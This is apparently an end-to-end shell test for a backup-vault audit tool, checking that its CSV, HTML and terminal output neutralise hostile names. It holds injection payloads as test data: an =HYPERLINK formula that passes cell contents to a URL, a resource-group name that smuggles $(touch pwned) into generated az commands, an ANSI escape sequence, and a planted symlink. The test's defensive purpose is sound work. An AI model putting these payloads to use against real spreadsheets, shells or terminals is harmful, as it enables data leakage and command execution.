#!/bin/sh
# output_safety.sh: outputs safe to open, share and rerun into. Names an
# attacker chose (a formula, a leading @ or -) reach no spreadsheet as a
# formula: every CSV cell that would run gets an apostrophe, which our own
# readers take off again (report reads plan.csv back unchanged), and
# --csv-raw opts out. Bytes that are not UTF-8 become U+FFFD; the
# commands posture.csv prints quote every value as a shell word. A link
# planted where a temporary file goes is refused (73), never followed.
. tests/e2e/lib.sh
BASE="$VW_TOP/tests/bad/base-snapshot"
SNAP="$T/snap"
python3 "$VW_TOP/tests/e2e/hostile_names.py" "$BASE" "$SNAP"

# formulas OUT: every cell in OUT's CSVs that a spreadsheet would run.
formulas() {
	python3 - "$1" <<'PY'
import csv, glob, os, re, sys
number = re.compile(r'[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$')
for path in sorted(glob.glob(os.path.join(sys.argv[1], '**', '*.csv'),
                             recursive=True)):
    with open(path, newline='') as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] and cell[0] in '=+-@\t\r' and \
                        not number.match(cell):
                    print(os.path.relpath(path, sys.argv[1]), cell)
PY
}

expect_exit 0 "run on a snapshot with hostile names" \
	"$VAULTWISE" run --snapshot "$SNAP" --out "$T/run"
formulas "$T/run" >"$T/formulas"
check "no CSV cell of run's output would run as a formula" \
	test ! -s "$T/formulas"
sed 's/^/# /' "$T/formulas" | head -n 5
check "plan.csv holds the =HYPERLINK name with an apostrophe" \
	python3 - "$T/run/plan/plan.csv" <<'PY'
import csv, sys
names = [r['item_name'] for r in csv.DictReader(open(sys.argv[1], newline=''))]
assert '\'=HYPERLINK("http://x/?"&A1,"x")' in names, set(names)
PY
for f in report/vaults.csv report/policies.csv posture.csv; do
	grep_ok "$f neutralises the vault name -dev" "(^|,)'-dev(,|$)" \
		"$T/run/$f"
done
grep_ok "report/policies.csv neutralises the policy name @SUM(1)" \
	"(^|,)'@SUM\(1\)(,|$)" "$T/run/report/policies.csv"
grep_ok "rpo_rto.csv neutralises the =HYPERLINK item name" \
	"\"'=HYPERLINK" "$T/run/rpo_rto.csv"
# report read plan.csv back: the page shows the names as they are
grep_ok "report.html shows the name as it is (read back from plan.csv)" \
	">-dev<" "$T/run/report/report.html"
check "report.html has no apostrophe the CSV reader left on" \
	sh -c "! grep -Eq \"(&#39;|&#x27;|')(-dev|@SUM|=HYPERLINK)\" \
		'$T/run/report/report.html'"
check "every CSV and report.html is valid UTF-8" python3 - "$T/run" <<'PY'
import glob, os, sys
for path in glob.glob(os.path.join(sys.argv[1], '**', '*.*'), recursive=True):
    if path.endswith(('.csv', '.html')):
        open(path, 'rb').read().decode('utf-8')
PY
for f in plan/summary.csv report/policies.csv report/report.html; do
	grep_ok "$f shows the name that is not UTF-8 with U+FFFD" \
		"vm-hourly-caf$(printf '\357\277\275')" "$T/run/$f"
done
# posture.csv's fix commands: every value one shell word
grep_ok "posture.csv quotes a resource group holding shell syntax" \
	"az backup vault update -g 'rg-dev'\\\\'';\\\$\\(touch pwned\\)' -n -dev " \
	"$T/run/posture.csv"
check "no fix command leaves the resource group unquoted" \
	sh -c "! grep -q -- \"-g rg-dev';\" '$T/run/posture.csv'"

expect_exit 0 "run --csv-raw writes the cells as they are" \
	"$VAULTWISE" run --snapshot "$SNAP" --out "$T/raw" --csv-raw
grep_ok "with --csv-raw plan.csv has the raw =HYPERLINK" \
	'(^|,)"=HYPERLINK' "$T/raw/plan/plan.csv"

# a vault name with an ANSI escape: shown escaped, never raw
expect_exit 0 "audit of a vault whose name holds an ANSI escape" \
	"$VAULTWISE" audit "$SNAP" --out "$T/esc.csv"
grep_ok "audit's table shows the escape as text" \
	'vault-\\x1b\]0;pwned\\x07prod' "$T/out"
check "no raw ESC reaches the terminal" \
	sh -c "! grep -q \"\$(printf '\\033')\" '$T/out' '$T/err'"

expect_exit 0 "apply's dry run of a plan naming that vault" \
	"$VAULTWISE" apply "$T/run/plan"
grep_ok "apply's per-vault lines show the escape as text" \
	'^  vault-\\x1b\]0;pwned\\x07prod  ' "$T/out"
check "no raw ESC reaches the terminal from apply" \
	sh -c "! grep -q \"\$(printf '\\033')\" '$T/out' '$T/err'"

# 20,000 vaults that protect nothing: one posture.csv row says so, not
# 200,000 rows of checks on nothing
python3 "$VW_TOP/tests/e2e/hostile_names.py" "$BASE" "$T/empty" 20000
expect_exit 0 "audit of 2 vaults and 20,000 that protect nothing" \
	"$VAULTWISE" audit "$T/empty" --out "$T/empty.csv"
check "posture.csv: the 2 vaults' 20 rows and one for the empty ones" \
	test "$(wc -l <"$T/empty.csv")" -eq 22
grep_ok "... which counts and names them" \
	"^,no_protected_items,info,pass,\"20000 vaults protect no items .*empty-000000, .*\(\+19980 more\)" \
	"$T/empty.csv"
grep_ok "audit's table says so in one line" \
	"not checked: 20000 vaults protect no items" "$T/out"

# A link where audit's temporary twin goes: the shell's PID is the one
# vaultwise runs under after exec, so the link is where it will write.
mkdir "$T/shared"
echo precious >"$T/victim"
expect_exit 73 "a link planted at the temporary file's name is refused" \
	sh -c 'ln -s "$1" "$2/.posture.csv.tmp.$$" &&
		exec "$3" audit "$4" --out "$2/posture.csv"' sh \
	"$T/victim" "$T/shared" "$VAULTWISE" "$BASE"
grep_ok "the refusal names the link" "never writes through a link" "$T/err"
check "the link's target is untouched" \
	sh -c "[ \"\$(cat '$T/victim')\" = precious ]"
check "no posture.csv was written beside the link" \
	test ! -e "$T/shared/posture.csv"
finish
